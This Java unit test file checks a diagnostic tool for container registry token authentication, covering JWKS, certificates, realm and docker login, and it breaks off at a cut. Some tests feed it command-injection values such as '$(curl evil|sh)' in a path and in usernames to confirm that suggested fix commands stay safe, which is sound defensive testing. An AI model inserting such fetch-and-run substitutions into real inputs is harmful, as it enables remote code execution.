// Copyright the Registry Auth authors
// SPDX-License-Identifier: Apache-2.0

package io.registryauth.server;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;
import io.registryauth.key.JwksBuilder;
import io.registryauth.key.KeyEntries;
import io.registryauth.key.KeyIdStyle;
import io.registryauth.key.SigningKey;
import io.registryauth.key.VerificationKey;
import io.registryauth.server.doctor.Doctor;
import io.registryauth.server.doctor.Finding;
import io.registryauth.server.doctor.RegistryVersion;
import io.registryauth.server.doctor.Report;
import io.registryauth.server.doctor.Setup;
import io.registryauth.server.doctor.Source;
import io.registryauth.server.doctor.TokenServer;
import io.registryauth.tenant.NamespaceName;
import io.registryauth.token.Grant;
import io.registryauth.token.TokenIssuer;
import io.registryauth.token.TokenProfile;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.interfaces.ECPublicKey;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A set-up by files and URLs: good as it is, and then with one thing wrong. */
class DoctorTest {
  private static final String PASSWORD = "test-password-123";
  private static final String CONFIG =
      """
      version: 0.1
      storage: {filesystem: {rootdirectory: /var/lib/registry}}
      auth:
        token:
          realm: %s
          service: docker-registry
          issuer: registry-token-issuer
          rootcertbundle: /nowhere/tls.crt
          jwks: /nowhere/jwks.json
          signingalgorithms: [RS256, ES256, EdDSA]
      """;

  private static TestCertificate rsa;
  private static TestCertificate other;
  private static TestCertificate ec;
  private static TestCertificate ed25519;

  private final ExecutorService threads = Executors.newCachedThreadPool();
  private HttpsServer registry;
  private HttpServer realm;

  private String config;
  private String dockerConfig;
  private String ca;
  private String registryUrl;
  private TestCertificate signer = rsa;
  private Optional<TestCertificate> bundle = Optional.of(rsa);
  private Optional<String> jwks;
  private String jwksWhere = "jwks.json";
  private String issuer = TokenServer.DEFAULT_ISSUER;
  private String service = TokenServer.DEFAULT_SERVICE;
  private TokenProfile profile = TokenProfile.DISTRIBUTION_3;
  private Optional<String> keyId = Optional.empty();
  private String version = "3.1";
  private Optional<String> tenant = Optional.of("test-build");
  private Instant now = InstantSource.system().instant();

  private int registryStatus = 401;
  private int tokenStatus = 200;
  private String challenge;
  private int realmStatus = 401;
  private int loginStatus = 200;
  private Optional<String> loginBody = Optional.empty();
  private int postStatus = 400;
  private String realmBody = "{\"errors\":[]}";
  private final List<String> issued = new CopyOnWriteArrayList<>();

  @BeforeAll
  static void make() throws Exception {
    rsa = TestCertificate.selfSigned(TestCertificate.rsa());
    other = TestCertificate.selfSigned(TestCertificate.rsa());
    do {
      ec = TestCertificate.selfSigned(TestCertificate.ec("secp256r1"));
    } while (!hasLongCoordinates((ECPublicKey) ec.keys().getPublic()));
    ed25519 = TestCertificate.selfSigned(TestCertificate.ed25519());
  }

  /** A coordinate that begins with zero, as one in 256 does, is a fault of its own. */
  private static boolean hasLongCoordinates(ECPublicKey key) {
    return Stream.of(key.getW().getAffineX(), key.getW().getAffineY())
        .allMatch(coordinate -> coordinate.bitLength() > 248);
  }

  @BeforeEach
  void start() throws Exception {
    InetSocketAddress anyPort = new InetSocketAddress(InetAddress.getLoopbackAddress(), 0);
    registry = HttpsServer.create(anyPort, 0);
    registry.setHttpsConfigurator(
        new HttpsConfigurator(TlsCertificate.fromPem(rsa.certificatePem(), rsa.pkcs8()).context()));
    registry.createContext("/v2/", this::registry);
    registry.setExecutor(threads); // or one slow handshake holds up all others
    registry.start();
    realm = HttpServer.create(anyPort, 0);
    realm.createContext("/auth", this::realm);
    realm.start();
    registryUrl = "https://localhost:" + registry.getAddress().getPort();
    config = CONFIG.formatted(realmUrl());
    challenge = "Bearer realm=\"%s\",service=\"docker-registry\"".formatted(realmUrl());
    dockerConfig = dockerConfig("localhost:" + registry.getAddress().getPort(), "test-build");
    ca = rsa.certificatePem();
    signer = rsa;
    bundle = Optional.of(rsa);
    jwks = Optional.of(jwks(rsa, KeyIdStyle.DEFAULT_KEY_ID));
  }

  @AfterEach
  void stop() {
    registry.stop(0);
    realm.stop(0);
    threads.shutdownNow();
  }

  private String realmUrl() {
    return "http://127.0.0.1:" + realm.getAddress().getPort() + "/auth";
  }

  private static String dockerConfig(String host, String username) {
    String auth = Base64.getEncoder().encodeToString((username + ":" + PASSWORD).getBytes(UTF_8));
    return "{\"auths\":{\"%s\":{\"auth\":\"%s\"}}}".formatted(host, auth);
  }

  private static String jwks(TestCertificate certificate, String keyId) {
    return new JwksBuilder().add(verificationKey(certificate, keyId)).build();
  }

  private static VerificationKey verificationKey(TestCertificate certificate, String keyId) {
    return VerificationKey.of(certificate.keys().getPublic(), KeyIdStyle.parse(keyId));
  }

  private void registry(HttpExchange exchange) throws IOException {
    boolean token = exchange.getRequestHeaders().containsKey("Authorization");
    exchange.getResponseHeaders().set("WWW-Authenticate", challenge);
    answer(exchange, token ? tokenStatus : registryStatus, "{}");
  }

  private void realm(HttpExchange exchange) throws IOException {
    if (exchange.getRequestMethod().equals("POST")) {
      answer(exchange, postStatus, "{}");
    } else if (exchange.getRequestHeaders().containsKey("Authorization")) {
      answer(exchange, loginStatus, loginBody.orElseGet(() -> "{\"token\":\"" + token() + "\"}"));
    } else {
      answer(exchange, realmStatus, realmBody);
    }
  }

  /** Returns a token as the token server that the set-up has would give it. */
  private String token() {
    try {
      KeyIdStyle style = KeyIdStyle.parse(keyId.orElse(profile.defaultKeyId()));
      SigningKey key = SigningKey.fromPem(signer.pkcs8(), signer.certificatePem(), style);
      String token =
          TokenIssuer.builder(key)
              .profile(profile)
              .issuer(issuer)
              .build()
              .issue(new Grant("test-build", service, List.of()))
              .value();
      issued.add(token);
      return token;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static void answer(HttpExchange exchange, int status, String body) throws IOException {
    byte[] bytes = body.getBytes(UTF_8);
    exchange.sendResponseHeaders(status, bytes.length);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }

  private Setup setup() throws Exception {
    Map<String, String> keys =
        Map.of("tls.key", signer.pkcs8(), "tls.crt", signer.certificatePem());
    return setup(keys);
  }

  private Setup setup(Map<String, String> keys) throws Exception {
    Optional<Source> certificates = Optional.empty();
    if (bundle.isPresent()) {
      certificates = Optional.of(Source.of("bundle.crt", bundle.get().certificatePem()));
    }
    return Setup.builder(
            new TokenServer(
                issuer, service, profile, keyId, "tls.key and tls.crt", new KeyEntries(keys)))
        .version(Optional.of(version).filter(text -> !text.isEmpty()).map(RegistryVersion::parse))
        .config(Optional.of(Source.of("config.yml", config)))
        .jwks(jwks.map(text -> Source.of(jwksWhere, text)))
        .bundle(certificates)
        .registry(Optional.of(registryUrl))
        .ca(Optional.of(Source.of("ca.crt", ca)))
        .dockerConfig(Optional.of(Source.of("config.json", dockerConfig)))
        .tenant(tenant.map(NamespaceName::new))
        .build();
  }

  private Report examine(Setup setup) {
    return new Doctor(() -> now).examine(setup);
  }

  private void assertOnly(String id, String problem, String where, String fix) throws Exception {
    assertOnly(setup(), id, problem, where, fix);
  }

  private void assertOnly(Setup setup, String id, String problem, String where, String fix)
      throws Exception {
    Report report = examine(setup);
    assertThat(report.findings())
        .as(report.text())
        .singleElement()
        .satisfies(
            finding -> {
              assertThat(finding.id()).hasToString(id);
              assertThat(finding.problem()).contains(problem);
              assertThat(finding.where()).contains(where);
              assertThat(finding.fix()).contains(fix);
            });
    assertSecretsAreKept(report);
  }

  private void assertSecretsAreKept(Report report) throws Exception {
    String key = signer.pkcs8().lines().skip(1).findFirst().orElseThrow();
    assertThat(report.text() + report.json()).doesNotContain(PASSWORD, key, "PRIVATE KEY");
    assertThat(issued).noneMatch(token -> report.json().contains(token));
  }

  @ParameterizedTest
  @ValueSource(strings = {"3.0", "3.1"})
  void goodSetup_nothingIsFound_andAllIsLookedAt(String registryVersion) throws Exception {
    version = registryVersion;
    tokenStatus = 200;
    Report report = examine(setup());

    assertThat(report.findings()).as(report.text()).isEmpty();
    assertThat(report.checked())
        .anyMatch(line -> line.endsWith("it would be taken"))
        .anyMatch(line -> line.startsWith("the registry asks for a token"))
        .anyMatch(line -> line.startsWith("the realm answers as a token service"))
        .anyMatch(line -> line.startsWith("the realm takes the password of config.json"))
        .anyMatch(line -> line.startsWith("the registry takes the token server's tokens"));
    assertThat(report.notChecked()).isEmpty();
    assertSecretsAreKept(report);
  }

  @Test
  void goodSetup_ofRegistry28_nothingIsFound() throws Exception {
    version = "2.8";
    profile = TokenProfile.DISTRIBUTION_2_8;
    jwks = Optional.empty();
    assertThat(examine(setup()).findings()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          version: 0.1           | version: 0.2           | version is "0.2"
          auth:                  | auths:                 | it has no auth
          token:                 | tokens:                | auth has no token
          issuer: registry-token-issuer | issuer: 5       | auth.token.issuer is 5
          storage:               | storages:              | it has no storage
          version: 0.1           | version: [             | it is no YAML
          realm: http            | realm: ftp             | no http URL
          signingalgorithms:.*   | autoredirect: maybe   | autoredirect is maybe
          """)
  void configInvalid(String right, String wrong, String problem) throws Exception {
    config = config.replaceFirst(right, wrong);
    Report report = examine(setup());

    assertThat(report.findings())
        .as(report.text())
        .anySatisfy(
            finding -> {
              assertThat(finding.id()).hasToString("config-invalid");
              assertThat(finding.problem()).contains(problem);
            });
  }

  /** Each is a cause of its own. */
  @Test
  void configInvalid_moreThanOnce_isSaidOfEach() throws Exception {
    config = config.replaceFirst("service:.*", "").replaceFirst("storage:.*", "");
    assertThat(examine(setup()).findings())
        .filteredOn(finding -> finding.id().toString().equals("config-invalid"))
        .extracting(Finding::problem)
        .containsExactly("it has no storage", "auth.token.service is missing; it must be a text");
  }

  @Test
  void registryNotHttps_thatSpeaksHttps_isToldByItsAnswer() throws Exception {
    realm.createContext(
        "/v2/",
        exchange -> answer(exchange, 400, "Client sent an HTTP request to an HTTPS server."));
    List<Finding> findings = new ArrayList<>();
    proxied(
        () -> {
          registryUrl = "http://registry.example.com";
          findings.addAll(examine(setup()).findings());
        });
    assertThat(findings)
        .filteredOn(finding -> finding.id().toString().equals("registry-not-https"))
        .singleElement()
        .extracting(Finding::fix)
        .isEqualTo("name it by https");
  }

  @ParameterizedTest
  @ValueSource(strings = {"!!int abc", "&a [[*a]]", "&a {b: [*a]}"})
  void configInvalid_valueThatCannotBeRead(String value) throws Exception {
    for (String name : List.of("realm", "signingalgorithms")) {
      config = CONFIG.formatted(realmUrl()).replaceFirst(name + ":.*", name + ": " + value);
      assertThat(examine(setup()).findings())
          .anySatisfy(
              finding -> {
                assertThat(finding.id()).hasToString("config-invalid");
                assertThat(finding.problem()).startsWith("it is no YAML");
              });
    }
  }

  @Test
  void config_withStorageAsAWord_isGood() throws Exception {
    config = config.replaceFirst("storage:.*", "storage: inmemory");
    assertThat(examine(setup()).findings()).isEmpty();
  }

  @Test
  void realm_thatAnswersWithAListAsToken_isNotChecked() throws Exception {
    loginBody = Optional.of("{\"token\":[]}");
    Report report = examine(setup());
    assertThat(report.findings()).isEmpty();
    assertThat(report.notChecked())
        .anySatisfy(each -> assertThat(each.why()).contains("200, without a token"));
  }

  @Test
  void jwksMissing_inTheConfiguration() throws Exception {
    config = config.replaceFirst("jwks:.*", "");
    jwks = Optional.empty();
    assertOnly(
        "jwks-missing",
        "rootcertbundle gives no key \"registry-auth-jwt-signer\"",
        "config.yml: auth.token.jwks",
        "jwks --cert tls.crt > jwks.json");
  }

  /** That the registry refuses the tokens then needs no other reason. */
  @Test
  void jwksInvalid_keyWithoutId() throws Exception {
    jwks = Optional.of(jwks(rsa, "signer").replaceFirst("\"kid\"", "\"id\""));
    tokenStatus = 401;
    assertOnly("jwks-invalid", "has no kid", "jwks.json", "jwks --cert tls.crt");
  }

  @Test
  void jwksMissing_noCertificateEither_needsNoKeyToBeSeen() throws Exception {
    config = config.replaceFirst("jwks:.*", "").replaceFirst("rootcertbundle:.*", "");
    jwks = Optional.empty();
    bundle = Optional.empty();
    for (Setup setup : List.of(setup(), setup(Map.of()))) {
      assertOnly(setup, "jwks-missing", "neither jwks nor", "auth.token.jwks", "jwks --cert");
    }
  }

  @Test
  void verdict_onAToken_isNoneIfAFileIsNotHere() throws Exception {
    jwks = Optional.empty();
    assertVerdict("nothing that is known is against it");
  }

  @Test
  void verdict_onAToken_isThatOfTheAlgorithmsToo() throws Exception {
    config = config.replaceFirst("(signingalgorithms:).*", "$1 [ES256]");
    assertVerdict("it would be refused");
  }

  private void assertVerdict(String verdict) throws Exception {
    assertThat(examine(setup()).checked())
        .filteredOn(line -> line.startsWith("a token of the token server"))
        .singleElement()
        .asString()
        .endsWith(verdict);
  }

  /** A path in a container says nothing of this machine, whatever directories that has. */
  @Test
  void file_thatIsNotHere_isMissingOnlyBesideTheConfiguration(@TempDir Path directory)
      throws Exception {
    Path elsewhere = Files.createDirectory(directory.resolve("etc"));
    assertThat(ids(inFile(directory, elsewhere.resolve("jwks.json").toString()))).isEmpty();
    assertThat(ids(inFile(directory, "/"))).isEmpty();
    assertThat(ids(inFile(directory, "\"a\\0b\""))).isEmpty();
    assertThat(ids(inFile(directory, directory.resolve("jwks.json").toString())))
        .containsExactly("jwks-missing");
  }

  private List<String> ids(Setup setup) {
    return examine(setup).findings().stream().map(finding -> finding.id().toString()).toList();
  }

  /** Returns a set-up of which the configuration is in this directory, and names this JWK Set. */
  private Setup inFile(Path directory, String path) throws Exception {
    String text = config.replaceFirst("jwks:.*", Matcher.quoteReplacement("jwks: " + path));
    return setup().toBuilder()
        .config(Optional.of(Source.of(directory.resolve("config.yml").toString(), text)))
        .jwks(Optional.empty())
        .build();
  }

  @Test
  void jwksMissing_rfc7638AndBundle_isGood() throws Exception {
    config = config.replaceFirst("jwks:.*", "");
    jwks = Optional.empty();
    keyId = Optional.of("rfc7638");
    assertThat(examine(setup()).findings()).isEmpty();
  }

  @Test
  void jwksInvalid_noKey() throws Exception {
    jwks = Optional.of("{\"keys\":[]}");
    assertOnly("jwks-invalid", "it has no key", "jwks.json", "jwks --cert tls.crt");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          RS256         | no list
          [RS256, XY]   | has [XY]
          [ES256]       | without RS256
          """)
  void signingAlgorithms(String value, String problem) throws Exception {
    config = config.replaceFirst("(signingalgorithms:).*", "$1 " + value);
    assertOnly(
        "signing-algorithms",
        problem,
        "config.yml: auth.token.signingalgorithms",
        "signingalgorithms: [RS256]");
  }

  @Test
  void kidUnknown_anotherKey() throws Exception {
    jwks = Optional.of(jwks(other, "another"));
    assertOnly(
        "kid-unknown",
        "none of that id, but another",
        "jwks.json",
        "jwks --cert tls.crt > jwks.json");
  }

  @Test
  void kidUnknown_theKeyUnderAnotherId() throws Exception {
    jwks = Optional.of(jwks(rsa, "rfc7638"));
    assertOnly("kid-unknown", "has that key as", "jwks.json", "serve with --key-id ");
  }

  @Test
  void keyDiffers() throws Exception {
    jwks = Optional.of(jwks(other, KeyIdStyle.DEFAULT_KEY_ID));
    assertOnly("key-differs", "another key as", "jwks.json", "jwks --cert tls.crt > jwks.json");
  }

  @Test
  void keyDiffers_pathThatOthersWrote_isOneWordOfTheCommand() throws Exception {
    jwks = Optional.of(jwks(other, KeyIdStyle.DEFAULT_KEY_ID));
    jwksWhere = "/srv/$(curl evil|sh)";
    assertOnly("key-differs", "another key as", "/srv/", "> '/srv/$(curl evil|sh)'`");
  }

  @Test
  void keyDiffers_inASetOfSeveralKeys_theOthersAreKept() throws Exception {
    jwks =
        Optional.of(
            new JwksBuilder()
                .add(verificationKey(other, KeyIdStyle.DEFAULT_KEY_ID))
                .add(verificationKey(ec, "next"))
                .build());
    assertOnly("key-differs", "another key as", "jwks.json", "keep the others");
    assertThat(examine(setup()).findings().get(0).fix()).doesNotContain("> jwks.json");
  }

  /** Without the private key, the certificate says as much. */
  @Test
  void keyDiffers_byTheCertificateAlone() throws Exception {
    jwks = Optional.of(jwks(other, KeyIdStyle.DEFAULT_KEY_ID));
    Setup setup = setup(Map.of("tls.crt", rsa.certificatePem()));
    assertOnly(setup, "key-differs", "another key as", "jwks.json", "jwks --cert tls.crt");
  }

  @Test
  void issuerDiffers() throws Exception {
    issuer = "other";
    assertOnly(
        "issuer-differs",
        "\"registry-token-issuer\", and the token server's tokens have \"other\"",
        "config.yml: auth.token.issuer",
        "--issuer registry-token-issuer");
  }

  @Test
  void serviceDiffers() throws Exception {
    service = "other";
    assertOnly(
        "service-differs", "are for \"other\"", "config.yml: auth.token.service", "--service");
  }

  @Test
  void serviceDiffers_theRealmSaysSo() throws Exception {
    realmStatus = 400;
    realmBody = "{\"errors\":[{\"message\":\"the service is other\"}]}";
    assertOnly("service-differs", "the service is other", realmUrl(), "TOKEN_SERVICE");
  }

  @Test
  void profileWrong_registry28() throws Exception {
    version = "2.8";
    assertOnly("profile-wrong", "a list as aud", "--profile", "--profile distribution-2.8");
  }

  @Test
  void profileWrong_x5cWithoutBundle() throws Exception {
    config = config.replaceFirst("rootcertbundle:.*", "");
    bundle = Optional.empty();
    profile = TokenProfile.DISTRIBUTION_2_8;
    assertOnly(
        "profile-wrong",
        "has no rootcertbundle",
        "config.yml: auth.token.rootcertbundle",
        "--profile distribution-3");
  }

  @Test
  void keyKind_registry28DoesNotStartWithEd25519() throws Exception {
    version = "2.8";
    signer = ed25519;
    bundle = Optional.of(ed25519);
    Report report = examine(setup());
    assertThat(report.findings())
        .extracting(finding -> finding.id().toString())
        .containsOnly("key-kind");
  }

  @Test
  void keyKind_registry30GivesEcAnotherId() throws Exception {
    version = "3.0";
    signer = ec;
    bundle = Optional.of(ec);
    config = config.replaceFirst("jwks:.*", "");
    jwks = Optional.empty();
    keyId = Optional.of("rfc7638");
    assertOnly("key-kind", "another id than RFC 7638", "bundle.crt", "as jwks as well");
    version = "3.1";
    assertThat(examine(setup()).findings()).isEmpty();
  }

  @Test
  void keyKind_ofNoUse() throws Exception {
    TestCertificate weak = TestCertificate.selfSigned(TestCertificate.ec("secp384r1"));
    Setup setup = setup(Map.of("tls.key", weak.pkcs8(), "tls.crt", weak.certificatePem()));
    assertThat(examine(setup).findings())
        .isNotEmpty()
        .allSatisfy(finding -> assertThat(finding.id()).hasToString("key-kind"));
  }

  @Test
  void certificateExpired_mattersByX5cAlone() throws Exception {
    TestCertificate expired = TestCertificate.expired(TestCertificate.rsa());
    signer = expired;
    bundle = Optional.of(expired);
    jwks = Optional.of(jwks(expired, KeyIdStyle.DEFAULT_KEY_ID));
    assertThat(examine(setup()).findings()).isEmpty();
    profile = TokenProfile.DISTRIBUTION_2_8;
    assertOnly("certificate-expired", "is valid from", "tls.key and tls.crt", "renew");
  }

  @Test
  void certificateExpired_ofAnAuthority_isNotSaidToBeOfAnother() throws Exception {
    signer = rsa.issueExpired("CN=signer");
    jwks = Optional.of(jwks(signer, KeyIdStyle.DEFAULT_KEY_ID));
    profile = TokenProfile.DISTRIBUTION_2_8;
    assertOnly("certificate-expired", "CN=signer", "tls.key and tls.crt", "renew");

    bundle = Optional.of(other);
    assertThat(examine(setup()).findings())
        .extracting(finding -> finding.id().toString())
        .containsExactly("certificate-expired", "key-differs");
  }

  @Test
  void signingKeyDiffers() throws Exception {
    Setup setup = setup(Map.of("tls.key", other.pkcs8(), "tls.crt", rsa.certificatePem()));
    assertOnly(
        setup, "signing-key-differs", "not that of the private key", "tls.key", "openssl req");
  }

  @Test
  void realmUnreachable() throws Exception {
    realm.stop(0);
    assertOnly("realm-unreachable", "does not answer", realmUrl(), "auth.token.realm");
    realm = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
  }

  @Test
  void realmNotHttps() throws Exception {
    config = config.replace(realmUrl(), "http://no-such-host.invalid/auth");
    challenge = challenge.replace(realmUrl(), "http://no-such-host.invalid/auth");
    assertThat(examine(setup()).findings())
        .extracting(finding -> finding.id().toString())
        .containsExactly("realm-not-https", "realm-unreachable");
  }

  @ParameterizedTest
  @CsvSource({
    "403, 400, {}, it answers 403",
    "200, 400, <html>, HTML",
    "302, 400, {}, it answers 302",
    "503, 400, {}, it answers 503",
    "401, 403, {}, it answers 403 to a POST",
    "401, 415, {}, it answers 415 to a POST",
    "401, 500, {}, it answers 500 to a POST"
  })
  void realmNoTokenService(int get, int post, String body, String problem) throws Exception {
    realmStatus = get;
    postStatus = post;
    realmBody = body;
    assertOnly("realm-no-token-service", problem, realmUrl(), "auth.token.realm");
  }

  @ParameterizedTest
  @ValueSource(ints = {404, 405})
  void realm_withoutPost_isGood(int status) throws Exception {
    postStatus = status;
    assertThat(examine(setup()).findings()).isEmpty();
  }

  @Test
  void registryUnreachable() throws Exception {
    registryStatus = 404;
    assertOnly("registry-unreachable", "it answers 404", registryUrl, "its log");
  }

  @Test
  void registryNotHttps_speaksPlainHttp() throws Exception {
    try (ServerSocket plain = new ServerSocket(0, 0, InetAddress.getLoopbackAddress())) {
      Thread answering =
          new Thread(
              () -> {
                try (Socket client = plain.accept()) {
                  client
                      .getOutputStream()
                      .write("HTTP/1.1 400 Bad Request\r\n\r\n".getBytes(UTF_8));
                  client.getInputStream().readAllBytes();
                } catch (IOException e) {
                  throw new UncheckedIOException(e);
                }
              });
      answering.start();
      registryUrl = "https://localhost:" + plain.getLocalPort();
      dockerConfig = dockerConfig(registryUrl.substring("https://".length()), "test-build");
      assertOnly("registry-not-https", "plain http", registryUrl, "mount config.yml");
      answering.join();
    }
  }

  @ParameterizedTest
  @CsvSource({"docker-registry, old-service", "/auth, /old"})
  void registryRestart_theChallengeDiffers(String right, String old) throws Exception {
    challenge = challenge.replace(right, old);
    assertOnly("registry-restart", old, registryUrl, "restart the registry");
  }

  @Test
  void registryRestart_asksForNoToken() throws Exception {
    registryStatus = 200;
    assertOnly(
        "registry-restart", "asks for no token", registryUrl, "/etc/distribution/config.yml");
  }

  @Test
  void registryRestart_refusesATokenThatFitsItsFiles() throws Exception {
    tokenStatus = 401;
    assertOnly("registry-restart", "it answers 401", registryUrl, "restart the registry");
  }

  /** Nobody knows then which rules it goes by. */
  @Test
  void tokenRefused_byARegistryOfUnknownVersion() throws Exception {
    version = "";
    tokenStatus = 401;
    assertOnly("token-refused", "it answers 401", registryUrl, "--registry-version");
  }

  @ParameterizedTest
  @ValueSource(ints = {429, 503})
  void token_thatTheRegistryDoesNotJudge_isNotChecked(int status) throws Exception {
    tokenStatus = status;
    Report report = examine(setup());
    assertThat(report.findings()).as(report.text()).isEmpty();
    assertThat(report.notChecked())
        .anySatisfy(
            each -> {
              assertThat(each.what()).startsWith("whether the registry takes");
              assertThat(each.why()).contains("it answers " + status);
            });
  }

  @Test
  void clockSkew() throws Exception {
    now = now.plus(Duration.ofMinutes(2));
    assertThat(examine(setup()).findings())
        .hasSize(2)
        .allSatisfy(
            finding -> {
              assertThat(finding.id()).hasToString("clock-skew");
              assertThat(finding.problem()).contains("behind that of this machine");
            });
  }

  @ParameterizedTest
  @CsvSource({"localhost:443", "https://localhost", "other.example.com"})
  void dockerConfigHost(String host) throws Exception {
    dockerConfig = dockerConfig(host, "test-build");
    assertOnly("docker-config-host", host, "config.json: auths", "docker login");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", "[]", "{}", "{\"auths\":[]}", "{\"auths\":{\"HOST\":{\"auth\":\"?\"}}}"})
  void dockerConfigInvalid(String text) throws Exception {
    dockerConfig = text.replace("HOST", "localhost:" + registry.getAddress().getPort());
    assertOnly("docker-config-invalid", "", "config.json", "docker login");
  }

  @Test
  void dockerConfig_ofAHelper_isNotChecked() throws Exception {
    dockerConfig = "{\"auths\":{},\"credsStore\":\"desktop\"}";
    Report report = examine(setup());
    assertThat(report.findings()).isEmpty();
    assertThat(report.notChecked()).anySatisfy(each -> assertThat(each.why()).contains("desktop"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"credsStore\":\"pass\"}",
        "{\"credHelpers\":{\"HOST\":\"pass\"}}",
        "{\"auths\":{\"HOST\":{\"auth\":\"?\"}},\"credHelpers\":{\"HOST\":\"pass\"}}",
        "{\"auths\":{\"HOST\":{}},\"credsStore\":\"pass\"}"
      })
  void dockerConfig_withAHelperForTheHost_isNotChecked(String text) throws Exception {
    dockerConfig = text.replace("HOST", "localhost:" + registry.getAddress().getPort());
    Report report = examine(setup());
    assertThat(report.findings()).as(report.text()).isEmpty();
    assertThat(report.notChecked())
        .anySatisfy(each -> assertThat(each.why()).contains("the helper pass"));
  }

  @Test
  void dockerConfig_withHelpersForOthers_hasNoEntry() throws Exception {
    dockerConfig = "{\"credHelpers\":{\"other.example.com\":\"pass\"}}";
    assertOnly("docker-config-host", "but for nobody", "config.json: auths", "docker login");
  }

  @Test
  void dockerConfig_withAnIdentityToken_isNotChecked() throws Exception {
    loginStatus = 401;
    String auth = Base64.getEncoder().encodeToString("test-build:".getBytes(UTF_8));
    dockerConfig =
        "{\"auths\":{\"localhost:%d\":{\"auth\":\"%s\",\"identitytoken\":\"t\"}}}"
            .formatted(registry.getAddress().getPort(), auth);
    Report report = examine(setup());
    assertThat(report.findings()).as(report.text()).isEmpty();
    assertThat(report.notChecked())
        .anySatisfy(each -> assertThat(each.why()).contains("an identity token"));
  }

  /** Docker's clients shorten keys when they find none that is the host's. */
  @ParameterizedTest
  @ValueSource(strings = {"https://HOST", "https://HOST/v2/", "http://HOST", "HOST/v1/"})
  void dockerConfig_keyThatIsAUrlOfTheHost_isFound(String key) throws Exception {
    String host = "localhost:" + registry.getAddress().getPort();
    dockerConfig = dockerConfig(key.replace("HOST", host), "test-build");
    Report report = examine(setup());
    assertThat(report.findings()).as(report.text()).isEmpty();
    assertThat(report.checked())
        .anyMatch(line -> line.startsWith("the realm takes the password of config.json"));
  }

  @Test
  void usernameDiffers() throws Exception {
    tenant = Optional.of("other");
    assertOnly("username-differs", "log in as \"test-build\"", "config.json", "docker login");
  }

  @Test
  void passwordRefused() throws Exception {
    loginStatus = 401;
    assertOnly(
        "password-refused", "refuses the password", "config.json", "tenant create test-build");
  }

  @Test
  void passwordRefused_ofAnotherAccount_itsSecretIsNamed() throws Exception {
    tenant = Optional.empty();
    dockerConfig = dockerConfig("localhost:" + registry.getAddress().getPort(), "team+ci");
    loginStatus = 401;
    assertOnly(
        "password-refused",
        "\"team+ci\"",
        "config.json",
        "Secret ci-registry-credentials in the namespace team");
    assertThat(examine(setup()).findings().get(0).fix()).doesNotContain("tenant create");
  }

  @ParameterizedTest
  @ValueSource(strings = {"team+$(curl evil|sh)", "team$(curl evil|sh)", "`curl evil|sh`"})
  void passwordRefused_userNameOfOthers_isNoPartOfACommand(String username) throws Exception {
    tenant = Optional.empty();
    dockerConfig = dockerConfig("localhost:" + registry.getAddress().getPort(), username);
    loginStatus = 401;
    assertOnly("password-refused", "the password", "config.json", "valid is NAMESPACE");
    assertThat(examine(setup()).findings().get(0).fix()).doesNotContain("curl", "`");
  }

  @Test
  void tokenRefused_whyIsNotKnown() throws Exception {
    tokenStatus = 401;
    Setup setup =
        setup().toBuilder()
            .config(Optional.empty())
            .jwks(Optional.empty())
            .bundle(Optional.empty())
            .build();
    assertOnly(setup, "token-refused", "it answers 401", registryUrl, "--registry-config");
  }

  @Test
  void caMissing() throws Exception {
    ca = "no certificate";
    Report report = examine(setup());
    assertThat(report.findings())
        .extracting(finding -> finding.id().toString())
        .contains("ca-missing");
  }

  @Test
  void caDiffers() throws Exception {
    ca = other.certificatePem();
    assertOnly("ca-differs", "x509", "ca.crt", "registry-tls");
  }

  /** Lets what is asked by plain http come to the realm's server, whatever the host. */
  private void proxied(ThrowingRunnable asking) throws Exception {
    ProxySelector before = ProxySelector.getDefault();
    ProxySelector.setDefault(ProxySelector.of(realm.getAddress()));
    try {
      asking.run();
    } finally {
      ProxySelector.setDefault(before);
    }
  }

  /** What may fail. */
  private interface ThrowingRunnable {
    void run() throws Exception;
  }

  /** Whoever is on the way writes the realm of a challenge that comes by plain http. */
  @Test
  void registry_byPlainHttp_isToldNoSecretAndItsRealmIsNotAsked() throws Exception {
    List<Boolean> withToken = new CopyOnWriteArrayList<>();
    realm.createContext(
        "/v2/",
        exchange -> {
          withToken.add(exchange.getRequestHeaders().containsKey("Authorization"));
          registry(exchange);
        });
    proxied(
        () -> {
          registryUrl = "http://registry.example.com";
          config = config.replaceFirst("realm: .*", "realm: none\n    autoredirect: true");
          assertThat(examine(setup()).findings())
              .extracting(finding -> finding.id().toString())
              .contains("registry-not-https");
        });
    assertThat(withToken).containsExactly(false);
    assertThat(issued).isEmpty();
  }

  @Test
  void userinfo_ofAUrlInTheConfiguration_isNotPrinted() throws Exception {
    config = config.replace("//127.0.0.1", "//user:" + PASSWORD + "@127.0.0.1");
    Report report = examine(setup());
    assertThat(report.findings()).isNotEmpty();
    assertSecretsAreKept(report);
  }

  @ParameterizedTest
